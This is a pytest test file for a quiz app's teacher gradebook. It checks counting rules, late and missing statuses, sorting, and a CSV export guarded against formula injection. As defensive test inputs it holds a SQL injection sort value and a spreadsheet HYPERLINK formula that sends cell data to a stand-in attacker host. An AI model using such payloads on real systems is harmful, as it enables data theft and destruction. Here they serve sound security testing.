"""The gradebook: the counting attempt by each rule, late marks, statuses, sorting, and a CSV
that opens cleanly and safely in a spreadsheet."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import update

from quizapp.db.models import AssignmentStart, QuizVersion, utcnow
from quizapp.web.reports import FORMULA_START, neutralise
from tests.web.conftest import Auth
from tests.web.teach_data import (
    add_assignment,
    add_attempt,
    add_users,
    answers,
    class_id,
    db_of,
    ids,
    join,
    perfect,
    seed_quiz_of,
)


def pct(score: float) -> str:
    return f"{int(score * 100 + 0.5)}%"


@pytest.fixture
def book(app: Flask) -> dict[str, Any]:
    """Class 1 with alice, bob and carol; three assignments, one rule each."""
    cid = class_id(app)
    carol, alice, bob = add_users(app, ["carol"])[0], *ids(app, "alice", "bob")
    join(app, cid, [carol])
    best = add_assignment(app, cid, counting="best")
    last = add_assignment(app, cid, counting="last", due_at=utcnow() + timedelta(days=6))
    first = add_assignment(app, cid, counting="first", due_at=utcnow() - timedelta(hours=1))
    quiz = seed_quiz_of(app, best)
    low, mid, high = {}, answers(quiz, find_placeholder=["[insert date here]"]), perfect(quiz)
    scores = {}
    _, r = add_attempt(app, alice, best, low)
    scores["alice-best-1"] = r.score
    _, r = add_attempt(app, alice, best, high)
    scores["alice-best"] = r.score
    _, r = add_attempt(app, carol, best, mid)
    scores["carol-best"] = r.score
    add_attempt(app, alice, last, high)
    _, r = add_attempt(app, alice, last, mid)
    scores["alice-last"] = r.score
    _, r = add_attempt(app, alice, first, mid, late=True)
    scores["alice-first"] = r.score
    add_attempt(app, alice, first, high, late=True)
    with app.app_context(), db_of(app).write() as s:
        s.add(AssignmentStart(assignment_id=last, user_id=bob))
    assert scores["alice-best-1"] < scores["carol-best"] < scores["alice-best"]
    return {"cid": cid, "ids": (best, last, first), "scores": scores}


def students_in_order(html: str) -> list[str]:
    return re.findall(
        r'<th scope="row"><a href="/teach/classes/\d+/students/\d+">([^<]+)</a>', html
    )


def row_of(html: str, name: str) -> str:
    match = re.search(rf">{name}</a></th>(.*?)</tr>", html, re.S)
    assert match, name
    return match.group(1)


def test_each_cell_is_the_counting_attempt(
    book: dict[str, Any], client: FlaskClient, auth: Auth
) -> None:
    auth.login("teacher1")
    html = client.get(f"/teach/classes/{book['cid']}/gradebook").get_data(as_text=True)
    alice = re.findall(r"<td class=\"num cell-([\w-]+)\">(.*?)</td>", row_of(html, "alice"), re.S)
    scores = book["scores"]
    # Columns by due date: first (past due), best, last.
    assert [status for status, _ in alice] == ["late", "submitted", "submitted"]
    assert pct(scores["alice-first"]) in alice[0][1] and "late" in alice[0][1]
    assert pct(scores["alice-best"]) in alice[1][1] and "2 tries" in alice[1][1]
    assert pct(scores["alice-last"]) in alice[2][1]
    bob = row_of(html, "bob")
    assert re.findall(r'class="status">([^<]+)<', bob) == ["missing", "not started", "in progress"]
    mean = (scores["alice-best"] + scores["alice-last"] + scores["alice-first"]) / 3
    assert f'<td class="num mean">{pct(mean)}</td>' in row_of(html, "alice")


@pytest.mark.parametrize(
    ("sort", "order"),
    [
        ("name", ["alice", "bob", "carol"]),
        ("-name", ["carol", "bob", "alice"]),
        ("a{best}", ["carol", "alice", "bob"]),  # nobody's blank cell sorts last both ways
        ("-a{best}", ["alice", "carol", "bob"]),
        ("mean", ["carol", "alice", "bob"]),
        ("-mean", ["alice", "carol", "bob"]),
        ("a999999", ["alice", "bob", "carol"]),  # unknown: by name
        ("'; drop table users; --", ["alice", "bob", "carol"]),
    ],
)
def test_sorting_on_the_server(
    book: dict[str, Any], client: FlaskClient, auth: Auth, sort: str, order: list[str]
) -> None:
    auth.login("teacher1")
    key = sort.format(best=book["ids"][0])
    response = client.get(f"/teach/classes/{book['cid']}/gradebook", query_string={"sort": key})
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    assert students_in_order(html) == order
    assert html.count('aria-sort="') == 1


def cells(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 with a byte order mark, for Excel"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_export_matches_the_gradebook(
    book: dict[str, Any], client: FlaskClient, auth: Auth
) -> None:
    auth.login("teacher1")
    response = client.get(f"/teach/classes/{book['cid']}/gradebook.csv")
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == 'attachment; filename="gradebook-class-1.csv"'
    rows = cells(response.data)
    assert rows[0][:2] == ["Student", "Average (%)"]
    assert len(rows[0]) == 2 + 2 * 3 and rows[0][2].endswith(": score (%)")
    alice = next(r for r in rows if r[0] == "alice")
    scores = book["scores"]
    assert alice[2:4] == [f"{scores['alice-first'] * 100:.1f}", "late"]
    assert alice[4:6] == [f"{scores['alice-best'] * 100:.1f}", ""]
    bob = next(r for r in rows if r[0] == "bob")
    assert bob[1:] == [""] * 7


def test_csv_cells_cannot_run_as_formulas(
    app: Flask, book: dict[str, Any], client: FlaskClient, auth: Auth
) -> None:
    join(app, book["cid"], add_users(app, ["-2-cmd", "@cmd"]))
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    with app.app_context(), db_of(app).write() as s:
        s.execute(update(QuizVersion).values(title=evil))
    auth.login("teacher1")
    rows = cells(client.get(f"/teach/classes/{book['cid']}/gradebook.csv").data)
    flat = [c for row in rows for c in row]
    assert not [c for c in flat if c.startswith(FORMULA_START)]
    assert "'-2-cmd" in flat and "'@cmd" in flat
    assert any(c.startswith("'=HYPERLINK(") for c in rows[0])


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("\n=1", "'\n=1"),
        ("alice", "alice"),
        ("a=b", "a=b"),
        ("85.0", "85.0"),
        ("", ""),
        ("Éloïse – العربية", "Éloïse – العربية"),
    ],
)
def test_neutralise(value: str, expected: str) -> None:
    assert neutralise(value) == expected
